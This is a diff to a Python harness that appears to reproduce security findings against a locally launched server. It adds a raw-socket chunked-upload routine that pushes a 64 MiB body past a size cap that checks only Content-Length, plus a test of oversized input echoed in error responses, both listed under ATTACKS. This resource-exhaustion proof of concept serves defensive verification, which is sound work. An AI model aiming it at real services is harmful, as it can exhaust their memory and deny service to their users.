@@ -142,8 +142,77 @@ def huge_check(server: Server) -> dict[str, object]:
     }
 
 
+def chunked_upload(url: str, path: str, total: int, chunk: int = 64 * 1024) -> tuple[int | None, int, int, float]:
+    """POST `total` bytes of a JSON body with Transfer-Encoding: chunked, stopping once an answer comes.
+
+    Returns (status or None, bytes sent, response bytes, seconds)."""
+    import select
+
+    host, port = url.removeprefix("http://").split(":")
+    head = (
+        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
+        "Transfer-Encoding: chunked\r\n\r\n"
+    ).encode()
+    body_start = b'{"step": 1, "code": "'
+    sent, t0 = 0, time.perf_counter()
+    with socket.create_connection((host, int(port)), timeout=120) as sock:
+        sock.sendall(head)
+        try:
+            sock.sendall(b"%x\r\n%s\r\n" % (len(body_start), body_start))
+            while sent < total:
+                if select.select([sock], [], [], 0)[0]:
+                    break  # the server answered before the body ended
+                sock.sendall(b"%x\r\n%s\r\n" % (chunk, b"x" * chunk))
+                sent += chunk
+            else:
+                tail = b'"}'
+                sock.sendall(b"%x\r\n%s\r\n0\r\n\r\n" % (len(tail), tail))
+        except OSError:
+            pass  # the server closed the connection: read its answer
+        response = b""
+        try:
+            while True:
+                part = sock.recv(1 << 20)
+                if not part:
+                    break
+                response += part
+                if b"\r\n\r\n" in response:
+                    head_end = response.index(b"\r\n\r\n")
+                    headers = response[:head_end].decode("latin-1").lower()
+                    if "content-length:" in headers:
+                        length = int(headers.split("content-length:")[1].split()[0])
+                        if len(response) >= head_end + 4 + length:
+                            break
+        except OSError:
+            pass
+    took = time.perf_counter() - t0
+    status = int(response.split()[1]) if response.startswith(b"HTTP/1.1") else None
+    return status, sent, len(response), took
+
+
+def chunked_body(server: Server) -> dict[str, object]:
+    """Finding 2: a 64 MiB body sent with Transfer-Encoding: chunked (the 64 KiB cap read Content-Length only)."""
+    before = rss_mb(server.proc.pid)
+    status, sent, answer, took = chunked_upload(server.url, "/api/check", 64 << 20)
+    return {
+        "status": status,
+        "MiB sent": round(sent / 2**20, 1),
+        "response bytes": answer,
+        "s": round(took, 2),
+        "RSS +MiB": round(hwm_mb(server.proc.pid) - before),
+    }
+
+
+def echoed_input(server: Server) -> dict[str, object]:
+    """Finding 2: a 60 kB `code` under the body cap; the 422 echoed it whole."""
+    r = httpx.post(f"{server.url}/api/check", json={"step": 1, "code": "x" * 60_000}, timeout=60)
+    return {"status": r.status_code, "bytes": len(r.content)}
+
+
 ATTACKS: dict[str, tuple[str, Callable[[Server], dict[str, object]]]] = {
     "1": ("/api/check, a (32768,1,1) answer for dlogprobs", huge_check),
+    "2": ("/api/check, 64 MiB body, Transfer-Encoding: chunked", chunked_body),
+    "2b": ("/api/check, a 60 kB `code` (422)", echoed_input),
 }
 
 
